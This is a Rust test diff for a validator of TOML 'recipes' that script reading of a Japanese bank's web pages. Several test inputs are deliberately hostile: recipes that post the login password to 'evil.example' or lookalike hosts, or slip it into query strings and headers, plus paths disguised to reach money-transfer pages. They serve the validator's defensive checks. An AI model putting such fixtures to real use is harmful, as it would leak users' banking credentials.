@@ -89,6 +89,28 @@ fn a_fence_that_reaches_further_than_reading_is_refused() {
         ),
         ""
     );
+    for hidden in [
+        "/FuriKomi",
+        "/%66urikomi",
+        "/%E6%8C%AF%E8%BE%BC",
+        "/振込",
+        "/ＴＲＡＮＳＦＥＲ",
+        "/kozafurikae?x=1",
+        "/password_change",
+    ] {
+        let said = said("\"/oshirase\"", &format!("\"{hidden}\""));
+        assert!(
+            said.contains("looks like a page that moves money"),
+            "{hidden}: {said}"
+        );
+    }
+    assert!(
+        said(
+            "post   = [\"/auth\"",
+            "harmless = { \"/furikomi-rireki\" = \" \" }\npost   = [\"/furikomi-rireki\", \"/auth\""
+        )
+        .contains("`harmless` doesn't say why")
+    );
     assert!(said("\"/oshirase\"", "\"/*\"").contains("fences nothing in"));
     assert!(
         said("https://ib.mihon.example", "http://ib.mihon.example").contains("is not an origin")
@@ -119,6 +141,56 @@ fn secrets_stand_in_one_place_only() {
     assert!(
         said("KEIYAKU = \"{login.id}\"", "KEIYAKU = \"{answer}\"").contains("{answer} is used")
     );
+    let only = "{login.password} may stand only in `fill` or `send` of a login-form";
+    for (from, to) in [
+        (
+            "start  = \"/login\"",
+            "start  = \"/login?p={login.password}\"",
+        ),
+        (
+            "logout = { click = \"ログアウト\" }",
+            "logout = { post = \"/logout\", fields = { p = \"{login.password}\" } }",
+        ),
+        ("[site]", "[site]\nheaders = { X-P = \"{login.password}\" }"),
+        (
+            "{ click = \"残高照会\", to",
+            "{ post = \"https://evil.example/x\", json = { a = [\"{login.password}\"] }, to",
+        ),
+        (
+            "{ click = \"明細\", to",
+            "{ submit = \"form\", fill = { q = \"{login.password}\" }, to",
+        ),
+        (
+            "{ click = \"次の頁\", to",
+            "{ open = \"/meisai?p={login.password}\", to",
+        ),
+        (
+            "when = { title = \"メニュー\" }",
+            "when = { title = \"メニュー\", css = \"p\", is = \"{login.password}\" }",
+        ),
+        (
+            "fill     = { code = \"{answer}\" }",
+            "fill     = { code = \"{login.password}\" }",
+        ),
+    ] {
+        let said = said(from, to);
+        assert!(said.contains(only), "{to}: {said}");
+    }
+    let fill = "form    = \"form#login\"\nfill    = { KEIYAKU = \"{login.id}\", PASSWD = \"{login.password}\" }";
+    for path in [
+        "https://evil.example/x",
+        "//evil.example/x",
+        "https://ib.mihon.example.evil.example/auth",
+    ] {
+        let send =
+            format!("send = {{ post = \"{path}\", json = {{ p = \"{{login.password}}\" }} }}");
+        let said = said(fill, &send);
+        assert!(
+            said.contains("`send` would carry the login to another host"),
+            "{path}: {said}"
+        );
+    }
+    assert!(said(fill, "send = { open = \"/auth?p={login.password}\" }").contains(only));
 }
 
 #[test]
@@ -160,7 +232,7 @@ fn a_signed_in_page_shows_something_of_its_own() {
             "when = { path = \"/zandaka\" }"
         ),
         format!(
-            "recipe.toml:{page}: \"accounts\" is recognised by its address only\n    help: it needs something that only this page shows: has, text, title or json"
+            "recipe.toml:{page}: \"accounts\" is recognised by its address only\n    help: it needs something that only this page shows: has, text, title, json or the type of a file"
         )
     );
     let click = line_of("kind = \"click-through\"") - 1;
@@ -261,22 +333,6 @@ fn a_statement_says_what_it_is_made_of() {
             "recipe.toml:{statement}: warning: a page of kind statement has no `empty`: a period without lines will be refused\n    help: open a month without lines and copy the bank's sentence"
         )
     );
-    let unproven = said("total   = { beside = \"件数\", without = \"件\" }\n", "").to_owned();
-    assert_eq!(unproven, "", "the running balance is a witness");
-    let without = RECIPE
-        .replacen("total   = { beside = \"件数\", without = \"件\" }\n", "", 1)
-        .replacen("balance     = \"残高\"\n", "", 1);
-    let faults = Recipe::read(INSTITUTION, &without).expect_err("nothing proves the lines");
-    assert_eq!(
-        faults[0].message,
-        "nothing on this statement proves its lines"
-    );
-    let spoken = without.replacen(
-        "kind  = \"statement\"",
-        "kind  = \"statement\"\nunproven = true",
-        1,
-    );
-    assert!(Recipe::read(INSTITUTION, &spoken).is_ok());
     assert!(
         said("in          = \"入金\"", "amount      = \"入金\"")
             .contains("lines need either `amount`, or `in` and `out`")
@@ -296,6 +352,109 @@ fn a_statement_says_what_it_is_made_of() {
         )
         .contains("`empty` is no sentence of the bank")
     );
+}
+
+#[test]
+fn amounts_need_a_witness_or_an_open_word() {
+    const TOTAL: &str = "total   = { beside = \"件数\", without = \"件\" }\n";
+    const BALANCE: &str = "balance     = \"残高\"\n";
+    assert_eq!(said(TOTAL, ""), "", "the running balance is a witness");
+    let first = |recipe: &str| {
+        let faults = Recipe::read(INSTITUTION, recipe).expect_err("nothing proves the amounts");
+        assert_eq!(faults.len(), 1, "{faults:?}");
+        faults[0].to_string()
+    };
+    let statement = line_of("kind  = \"statement\"") - 1;
+    let help = "read the running `balance`, or let it say `sum`, or `opening` and `closing`; if the bank prints none: unproven = true";
+    let counted = RECIPE.replacen(BALANCE, "", 1);
+    assert_eq!(
+        first(&counted),
+        format!(
+            "recipe.toml:{statement}: `total` proves that no line is missing; nothing on this statement proves its amounts\n    help: {help}"
+        )
+    );
+    let bare = counted.replacen(TOTAL, "", 1);
+    assert_eq!(
+        first(&bare),
+        format!(
+            "recipe.toml:{statement}: nothing on this statement proves its lines\n    help: {help}"
+        )
+    );
+    let with = |recipe: &str, from: &str, to: &str| {
+        Recipe::read(INSTITUTION, &recipe.replacen(from, to, 1))
+    };
+    for witness in [
+        "sum = \".goukei\"\n",
+        "opening = \".mae\"\nclosing = \".ato\"\n",
+    ] {
+        let recipe = with(&counted, TOTAL, witness).expect("a witness");
+        assert_eq!(
+            (recipe.warnings(), recipe.unproven_statements()),
+            (&[][..], vec![])
+        );
+    }
+    assert!(
+        with(&counted, TOTAL, "closing = \".ato\"\n").is_err(),
+        "one end proves nothing"
+    );
+    let spoken = "kind  = \"statement\"\nunproven = true";
+    let recipe = with(&bare, "kind  = \"statement\"", spoken).expect("an open word");
+    assert_eq!(recipe.unproven_statements(), ["statement"]);
+    let by_day = with(RECIPE, BALANCE, "balance = \"残高\"\nchain = \"day\"\n");
+    assert_eq!(by_day.expect("a witness").warnings(), &[][..]);
+    assert!(with(RECIPE, BALANCE, "balance = \"残高\"\nchain = false\n").is_err());
+    assert!(
+        said(BALANCE, "balance = \"残高\"\nchain = \"month\"\n")
+            .contains("\"month\" is not a chain")
+    );
+    let idle = said("kind  = \"statement\"", spoken);
+    assert!(
+        idle.contains("warning: `unproven = true`, but something proves the amounts"),
+        "{idle}"
+    );
+}
+
+#[test]
+fn ways_behind_the_login_say_where_they_lead() {
+    assert_eq!(
+        said(", to = \"period-form\" }", " }"),
+        format!(
+            "recipe.toml:{}: warning: the way doesn't say where it leads\n    help: to = \"…\": the name or kind of the page that comes; any other one is refused then",
+            line_of("to = \"period-form\"")
+        )
+    );
+    let form = line_of("kind    = \"period-form\"") - 1;
+    assert_eq!(
+        said("to = \"period-form\"", "to = \"statement\""),
+        format!(
+            "recipe.toml:{form}: warning: nothing leads to \"period-form\"\n    help: a way with to = \"…\" leads to it, or it can go"
+        )
+    );
+}
+
+#[test]
+fn names_of_kept_values_are_plain_and_not_taken() {
+    for name in ["answer", "login.id", "新 しい", "token"] {
+        let said = said(
+            "kind = \"menu\"",
+            &format!("kind = \"menu\"\nkeep = {{ \"{name}\" = \"h1\" }}"),
+        );
+        assert!(
+            said.contains("can't be the name of a kept value"),
+            "{name}: {said}"
+        );
+    }
+}
+
+#[test]
+fn a_recipe_knows_where_its_pages_begin() {
+    let recipe = Recipe::read(INSTITUTION, RECIPE).expect("a recipe");
+    assert_eq!(recipe.line_of("menu"), Some(line_of("kind = \"menu\"") - 1));
+    assert_eq!(
+        recipe.line_of("maintenance"),
+        Some(line_of("kind  = \"maintenance\"") - 1)
+    );
+    assert_eq!(recipe.line_of("nowhere"), None);
 }
 
 #[test]
@@ -338,25 +497,6 @@ fn japanese_keys_stand_in_quotes() {
             "help: in TOML a Japanese key stands in quotes: { \"普通\" = \"ordinary\" }"
         ),
         "{said}"
-    );
-}
-
-#[test]
-fn what_comes_later_is_named_and_not_guessed() {
-    assert!(
-        said("kind = \"menu\"", "kind = \"approval\"")
-            .contains("this version can't walk an \"approval\" yet")
-    );
-    assert!(
-        said("start  =", "engine = \"browser\"\nstart  =")
-            .contains("this version has the engine \"http\" only")
-    );
-    assert!(
-        said(
-            "table       = \"table.meisai\"",
-            "file = { format = \"csv\" }"
-        )
-        .contains("this version can't read a `file` yet")
     );
 }
 
